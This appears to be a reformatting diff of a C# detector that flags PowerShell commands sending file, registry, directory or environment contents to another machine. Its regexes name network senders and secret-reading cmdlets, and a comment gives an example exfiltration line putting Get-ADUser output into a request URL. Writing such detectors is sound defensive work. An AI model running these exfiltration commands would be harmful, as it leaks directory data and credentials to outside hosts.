@@ -3,11 +3,13 @@ using System.Text.RegularExpressions;
 
 namespace Firstlook.Effects.PowerShell;
 
-/// <summary>What files, the registry, a directory or the environment hold, and then stands in the address of a request: <c>irm "https://h/?x=$(Get-ADUser -Filter *)"</c>.</summary>
+/// <summary>What files, the registry, a directory or the environment hold, and then stands in the address of a request: <c>irm "https://h/?x=$(Get-ADUser -Filter
+/// *)"</c>.</summary>
 internal static partial class SentOn
 {
     static readonly FrozenSet<string> Senders = FrozenSet.Create(StringComparer.OrdinalIgnoreCase,
-        "Invoke-RestMethod", "Invoke-WebRequest", "Resolve-DnsName", "Test-NetConnection", "Test-Connection", "nslookup", "nslookup.exe", "ping", "ping.exe", "curl.exe", "curl", "Test-WSMan", "New-WebServiceProxy", "Invoke-Sqlcmd", "Connect-PSSession", "Get-CimInstance");
+        "Invoke-RestMethod", "Invoke-WebRequest", "Resolve-DnsName", "Test-NetConnection", "Test-Connection", "nslookup", "nslookup.exe", "ping", "ping.exe", "curl.exe",
+            "curl", "Test-WSMan", "New-WebServiceProxy", "Invoke-Sqlcmd", "Connect-PSSession", "Get-CimInstance");
 
     /// <returns>Why a text is no read; null where it sends nothing on that is held.</returns>
     public static string? Problem(string text) =>
@@ -25,12 +27,19 @@ internal static partial class SentOn
         // about_Subexpression: what a file holds is put into an address, a name or a body.
         // "type" is a column in the text of a statement.
         var statements = name == "Invoke-Sqlcmd";
-        if (Senders.Contains(name) && tokens.Skip(1).Any(token => !(statements && token is { Kind: PowerShellKind.Word, Quoted: true }) && Content().IsMatch(token.Text) || token.Inner.Any(inner => Content().IsMatch(inner) || Held().IsMatch(inner)) || token.Kind == PowerShellKind.Parenthesis && Held().IsMatch(token.Text))) return Verdict.Unknown("what a file holds is sent to another machine");
+        if (Senders.Contains(name)
+            && tokens.Skip(1)
+                .Any(token =>
+                    !(statements && token is { Kind: PowerShellKind.Word, Quoted: true }) && Content().IsMatch(token.Text)
+                        || token.Inner.Any(inner => Content().IsMatch(inner) || Held().IsMatch(inner))
+                        || token.Kind == PowerShellKind.Parenthesis && Held().IsMatch(token.Text)))
+            return Verdict.Unknown("what a file holds is sent to another machine");
         if (name is not ("Invoke-RestMethod" or "Invoke-WebRequest" or "irm" or "iwr")) return null;
         return Requested(tokens) ?? Body(tokens) ?? (SignsIn(words) ? Verdict.Unknown("it signs in at somebody's machine") : null);
     }
 
-    /// <summary>The address that texts in brackets are put together to, <c>('http://h/' + 'stop')</c>; a header that overrides the method, and parameters that a variable holds.</summary>
+    /// <summary>The address that texts in brackets are put together to, <c>('http://h/' + 'stop')</c>; a header that overrides the method, and parameters that a variable
+    /// holds.</summary>
     static Verdict? Requested(IReadOnlyList<PowerShellToken> tokens)
     {
         Verdict? verdict = null;
@@ -55,7 +64,8 @@ internal static partial class SentOn
     [GeneratedRegex(@"'(?<text>[^']*)'|""(?<text>[^""]*)""", RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
     private static partial Regex Quoted();
 
-    [GeneratedRegex(@"-[ci]?(replace|split)(?!\w)|\[char|\]::|\.(Replace|Insert|Remove|Substring|ToLower|PadLeft|TrimStart|TrimEnd|Trim|Split)\(|\w\[|\)\[|['""]\[", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"-[ci]?(replace|split)(?!\w)|\[char|\]::|\.(Replace|Insert|Remove|Substring|ToLower|PadLeft|TrimStart|TrimEnd|Trim|Split)\(|\w\[|\)\[|['""]\[",
+        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
     private static partial Regex Disguising();
 
     /// <summary>A GET's body becomes its query (Invoke-RestMethod, "-Body").</summary>
@@ -63,7 +73,8 @@ internal static partial class SentOn
     {
         for (var at = 1; at + 1 < tokens.Count; at++)
         {
-            if (tokens[at].Kind != PowerShellKind.Word || !tokens[at].Text.StartsWith("-b", StringComparison.OrdinalIgnoreCase) || tokens[at + 1].Kind is not (PowerShellKind.Table or PowerShellKind.Word)) continue;
+            if (tokens[at].Kind != PowerShellKind.Word || !tokens[at].Text.StartsWith("-b", StringComparison.OrdinalIgnoreCase)
+                || tokens[at + 1].Kind is not (PowerShellKind.Table or PowerShellKind.Word)) continue;
             var query = string.Join('&', Pair().Matches(tokens[at + 1].Text).Select(pair => pair.Groups["key"].Value + "=" + pair.Groups["value"].Value));
             if (query.Length > 0 && Http.HttpJudge.Request("GET", "http://host/?" + query, "") is { Effect: > Effect.Read } acts) return acts;
         }
@@ -73,12 +84,19 @@ internal static partial class SentOn
 
     /// <summary>-UseDefaultCredentials signs in as this user, wherever the address leads: a name with a dot that is none of the own network's may be anybody's.</summary>
     static bool SignsIn(IReadOnlyList<Argument> words) =>
-        words.Any(word => word.Text.StartsWith("-UseDef", StringComparison.OrdinalIgnoreCase)) && words.Skip(1).Any(word => Host().Match(word.Text) is { Success: true } host && !OwnNetwork.Has(host.Groups["host"].Value));
+        words.Any(word => word.Text.StartsWith("-UseDef", StringComparison.OrdinalIgnoreCase))
+            && words.Skip(1).Any(word => Host().Match(word.Text) is { Success: true } host && !OwnNetwork.Has(host.Groups["host"].Value));
 
-    [GeneratedRegex(@"(?<![\w-])((Invoke-RestMethod|Invoke-WebRequest|irm|iwr|Resolve-DnsName|nslookup|curl|ping)(\.exe)?\s[^\n;|]*\$|(Test-NetConnection|tnc|Test-Connection)\s[^\n;|]*(""[^""\n]*\$|\$\())", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
+    [GeneratedRegex(
+        @"(?<![\w-])((Invoke-RestMethod|Invoke-WebRequest|irm|iwr|Resolve-DnsName|nslookup|curl|ping)(\.exe)?\s[^\n;|]*\$|"
+        + @"(Test-NetConnection|tnc|Test-Connection)\s[^\n;|]*(""[^""\n]*\$|\$\())",
+        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
     private static partial Regex Sending();
 
-    [GeneratedRegex(@"(?<![\w-])(Get-Content|gc|cat|type|Get-Secret|ReadAllText|ReadAllBytes|ReadAllLines|ConvertFrom-SecureString|Get-Clipboard|Import-Csv|Import-Clixml)(?![\w-])", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
+    [GeneratedRegex(
+        @"(?<![\w-])(Get-Content|gc|cat|type|Get-Secret|ReadAllText|ReadAllBytes|ReadAllLines|ConvertFrom-SecureString|Get-Clipboard|Import-Csv|"
+        + @"Import-Clixml)(?![\w-])",
+        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
     private static partial Regex Content();
 
     [GeneratedRegex(@"(?<key>[\w.-]+)['""]?\s*=\s*['""]?(?<value>[^'"";\n&]*)", RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
@@ -87,12 +105,19 @@ internal static partial class SentOn
     [GeneratedRegex(@"^(-\w+:)?(https?://)?(?<host>[^/:?]+)", RegexOptions.ExplicitCapture | RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
     private static partial Regex Host();
 
-    [GeneratedRegex(@"(?<![\w-])(Select-String|sls|findstr|Get-ItemProperty|Get-ItemPropertyValue|gpv|reg(\.exe)?\s+query|Get-AD\w+|Get-LocalUser|Get-Mg\w+|Get-Mailbox|Get-Recipient|Invoke-Sqlcmd|Get-Credential|Get-Content|gc|cat|type|Import-Csv|Import-Clixml|more)(?![\w-])", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
+    [GeneratedRegex(
+        @"(?<![\w-])(Select-String|sls|findstr|Get-ItemProperty|Get-ItemPropertyValue|gpv|reg(\.exe)?\s+query|Get-AD\w+|Get-LocalUser|Get-Mg\w+|Get-Mailbox|"
+        + @"Get-Recipient|Invoke-Sqlcmd|Get-Credential|Get-Content|gc|cat|type|Import-Csv|Import-Clixml|more)(?![\w-])",
+        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
     private static partial Regex Held();
 
-    [GeneratedRegex(@"(?<![\w-])(Invoke-RestMethod|Invoke-WebRequest|irm|iwr|curl|wget)(\.exe)?\s[^\n;|]*://[^\n;|\s]*\$", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
+    [GeneratedRegex(@"(?<![\w-])(Invoke-RestMethod|Invoke-WebRequest|irm|iwr|curl|wget)(\.exe)?\s[^\n;|]*://[^\n;|\s]*\$",
+        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
     private static partial Regex Carrying();
 
-    [GeneratedRegex(@"(?<![\w-])(Invoke-RestMethod|Invoke-WebRequest|irm|iwr|curl|wget)(\.exe)?\s[^\n;|]*://[^\n;|\s]*(\?[^\n;|\s]*\$\{?env:|\$\{?env:\w*(SECRET|TOKEN|PASS|KEY|CRED))", RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
+    [GeneratedRegex(
+        @"(?<![\w-])(Invoke-RestMethod|Invoke-WebRequest|irm|iwr|curl|wget)(\.exe)?\s[^\n;|]*://[^\n;|\s]*(\?[^\n;|\s]*\$\{?env:|"
+        + @"\$\{?env:\w*(SECRET|TOKEN|PASS|KEY|CRED))",
+        RegexOptions.IgnoreCase | RegexOptions.ExplicitCapture | RegexOptions.CultureInvariant)]
     private static partial Regex WithEnvironment();
 }
